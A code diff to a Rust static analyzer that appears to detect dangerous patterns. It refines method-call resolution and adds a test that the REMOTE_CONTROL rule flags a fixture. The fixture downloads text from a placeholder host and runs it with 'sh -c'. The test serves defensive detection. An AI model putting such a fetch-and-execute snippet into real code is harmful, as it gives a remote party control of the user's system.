@@ -565,8 +565,11 @@ fn callees<'f>(
     let candidates = by_name
         .get(call.callee.as_str())
         .map_or(&[][..], Vec::as_slice);
-    let methods = candidates.iter().filter(|f| f.method).count();
-    let unique_method = methods == 1 && !COMMON_METHODS.contains(&call.callee.as_str());
+    // Counted only for calls that need it, and only as far as a second method.
+    let unique_method = call.method
+        && !call.on_self
+        && !COMMON_METHODS.contains(&call.callee.as_str())
+        && candidates.iter().filter(|f| f.method).take(2).count() == 1;
     candidates.iter().copied().filter(move |function| {
         if call.method {
             return function.method
@@ -1157,6 +1160,25 @@ mod tests {
         assert_eq!(
             severity(&found, super::super::rules::DESTRUCTIVE),
             None,
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn a_name_bound_again_does_not_keep_its_earlier_literal() {
+        let found = findings(
+            r#"
+            pub fn run_hint() {
+                let body = ureq::get("https://hints.invalid/").call().unwrap();
+                let body = body.into_string().unwrap();
+                let cmd = "true";
+                let cmd = body.trim();
+                let _ = std::process::Command::new("sh").arg("-c").arg(cmd).status();
+            }"#,
+        );
+        assert_eq!(
+            severity(&found, super::super::rules::REMOTE_CONTROL),
+            Some(Verdict::Hold),
             "{found:?}"
         );
     }
